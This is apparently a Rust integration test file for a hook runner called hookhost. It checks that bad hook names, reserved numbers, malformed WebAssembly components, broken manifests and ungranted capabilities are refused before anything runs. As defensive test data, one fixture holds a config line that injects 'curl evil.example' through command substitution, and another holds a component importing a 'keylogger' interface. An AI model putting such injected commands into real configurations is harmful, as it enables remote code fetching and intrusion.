//! Everything refused before a run starts: bad hook names, reserved numbers,
//! duplicates, broken components. Each refusal names the file and what is
//! wrong, and nothing runs (a bash hook earlier in the order would leave a
//! marker file).

mod support;

use support::TestStack;

const MARKER_HOOK: &str = "touch \"$TOP_DIR/ran-$1\"\n";

fn stack_with_marker() -> TestStack {
    let stack = TestStack::new();
    stack.bash("10-marker.sh", MARKER_HOOK);
    stack
}

#[track_caller]
fn assert_nothing_ran(stack: &TestStack) {
    assert!(
        !stack.path("ran-source").exists(),
        "a hook ran before the refusal"
    );
}

#[test]
fn invalid_names_are_warned_about_by_name_and_not_run() {
    let stack = stack_with_marker();
    stack
        .write("extras.d/70-trove", "touch \"$TOP_DIR/trove-ran\"\n")
        .write("extras.d/README", "notes\n")
        .write("extras.d/50-x.sh~", "backup\n")
        .write("extras.d/5-short.sh", "\n");
    let run = stack.hookhost(&["stack"]);
    run.assert_code(0);
    for name in ["70-trove", "README", "50-x.sh~", "5-short.sh"] {
        assert!(
            run.stderr
                .lines()
                .any(|l| l.contains("warning:") && l.contains(name)),
            "no warning naming {name}\n{}",
            run.all()
        );
    }
    assert!(!stack.path("trove-ran").exists());
    assert!(stack.path("ran-source").exists());
}

#[test]
fn reserved_numbers_are_refused_unless_allowed() {
    let stack = stack_with_marker();
    stack.bash("05-early.sh", "touch \"$TOP_DIR/early-ran\"\n");
    stack.bash("95-late.sh", "\n");
    let run = stack.hookhost(&["stack"]);
    run.assert_code(2)
        .assert_no_panic()
        .assert_stderr_has("05-early.sh")
        .assert_stderr_has("95-late.sh")
        .assert_stderr_has("reserved");
    assert_nothing_ran(&stack);

    let run = stack.hookhost(&["stack", "--allow-reserved"]);
    run.assert_code(0);
    assert!(stack.path("early-ran").exists());
}

#[test]
fn reserved_numbers_can_be_allowed_in_hookhost_toml() {
    let stack = stack_with_marker();
    stack.bash("05-early.sh", "touch \"$TOP_DIR/early-ran\"\n");
    stack.write("hookhost.toml", "allow-reserved = true\n");
    stack.hookhost(&["stack"]).assert_code(0);
    assert!(stack.path("early-ran").exists());
}

#[test]
fn two_hooks_with_one_name_are_refused() {
    let stack = stack_with_marker();
    stack.bash("50-x.sh", "\n").wasm("50-x", "probe", None);
    let run = stack.hookhost(&["stack"]);
    run.assert_code(2)
        .assert_no_panic()
        .assert_stderr_has("50-x.sh")
        .assert_stderr_has("50-x.wasm");
    assert_nothing_ran(&stack);
}

/// Put `bytes` at extras.d/50-bad.wasm and expect a one-line refusal saying `problem`.
#[track_caller]
fn assert_refused(bytes: &[u8], problem: &str) {
    let stack = stack_with_marker();
    std::fs::write(stack.path("extras.d/50-bad.wasm"), bytes).unwrap();
    let run = stack.hookhost(&["stack"]);
    run.assert_code(2).assert_no_panic();
    let line = run
        .stderr
        .lines()
        .find(|l| l.contains("50-bad.wasm"))
        .unwrap_or_else(|| panic!("no error names the file\n{}", run.all()));
    assert!(line.contains(problem), "{line:?} does not say {problem:?}");
    assert!(
        !run.stderr.contains("Error {"),
        "Debug dump shown\n{}",
        run.all()
    );
    assert_nothing_ran(&stack);
}

#[test]
fn garbage_bytes_are_refused() {
    assert_refused(b"#!/bin/sh\necho not wasm\n", "is not a WebAssembly file");
}

#[test]
fn an_empty_file_is_refused() {
    assert_refused(b"", "is empty");
}

#[test]
fn a_core_module_is_refused() {
    let module = wat::parse_str("(module (func (export \"run\")))").unwrap();
    assert_refused(&module, "is a core WebAssembly module, not a component");
}

#[test]
fn a_truncated_component_is_refused() {
    let mut bytes = std::fs::read(support::component("probe")).unwrap();
    bytes.truncate(bytes.len() / 2);
    assert_refused(&bytes, "is not a valid component");
}

#[test]
fn a_component_of_another_world_is_refused() {
    let other =
        wat::parse_str("(component (instance $i) (export \"wasi:cli/run@0.2.0\" (instance $i)))")
            .unwrap();
    assert_refused(
        &other,
        "does not export hookhost:plugin/hook (of WIT versions 0.1.0 and 0.2.0), so it is not a hookhost plugin of that kind (it exports wasi:cli/run@0.2.0)",
    );
}

#[test]
fn a_component_importing_what_the_host_lacks_is_refused() {
    let greedy = wat::parse_str(
        "(component (import \"acme:spy/keylogger@1.0.0\" (instance)) \
         (instance $i) (export \"hookhost:plugin/hook@0.1.0\" (instance $i)))",
    )
    .unwrap();
    assert_refused(
        &greedy,
        "imports acme:spy/keylogger@1.0.0, which hookhost does not provide",
    );
}

#[test]
fn a_component_built_for_a_newer_wit_is_refused_with_the_version() {
    let newer = wat::parse_str(
        "(component (instance $i) (export \"hookhost:plugin/hook@9.0.0\" (instance $i)))",
    )
    .unwrap();
    assert_refused(
        &newer,
        "exports hookhost:plugin/hook@9.0.0, built for WIT version 9.0.0, but this hookhost runs WIT versions 0.1.0 and 0.2.0",
    );
}

#[test]
fn a_hook_exporting_the_wrong_shape_is_refused() {
    let wrong = wat::parse_str(
        "(component (instance $i) (export \"hookhost:plugin/hook@0.1.0\" (instance $i)))",
    )
    .unwrap();
    assert_refused(
        &wrong,
        "exports hookhost:plugin/hook@0.1.0 but not as hookhost defines it",
    );
}

#[test]
fn a_broken_manifest_is_refused_naming_file_and_field() {
    let stack = stack_with_marker();
    stack.wasm("50-p", "probe", Some("[capabilities]\nreed = [\"lib\"]\n"));
    let run = stack.hookhost(&["stack"]);
    run.assert_code(2)
        .assert_no_panic()
        .assert_stderr_has("50-p.toml")
        .assert_stderr_has("reed");
    assert_nothing_ran(&stack);
}

#[test]
fn a_bad_local_conf_line_is_refused_with_its_line_number() {
    let stack = stack_with_marker();
    stack.write(
        "local.conf",
        "[[local|localrc]]\nGOOD=1\nBAD=$(curl evil.example)\n",
    );
    let run = stack.hookhost(&["stack"]);
    run.assert_code(2)
        .assert_no_panic()
        .assert_stderr_has("local.conf:3");
    assert_nothing_ran(&stack);
}

#[test]
fn an_ungranted_request_refuses_the_plugin_and_says_how_to_grant_it() {
    let stack = stack_with_marker();
    stack.wasm(
        "50-p",
        "probe",
        Some("[capabilities]\nvars-read = [\"PROBE_*\"]\nvars-write = [\"TEMPLATE_INSTALLED\"]\n"),
    );
    let run = stack.hookhost(&["stack"]);
    run.assert_code(2)
        .assert_no_panic()
        .assert_stderr_has("50-p.wasm requests capabilities the operator has not granted")
        .assert_stderr_has(
            "vars-write = [\"TEMPLATE_INSTALLED\"]` under [grants.p] in hookhost.toml",
        )
        .assert_stderr_has("(--allow-env='PROBE_*' would let it set it too)");
    assert_nothing_ran(&stack);

    // The flag it suggested is enough.
    stack
        .hookhost(&["stack", "--allow-env=PROBE_*,TEMPLATE_INSTALLED"])
        .assert_code(0);
}
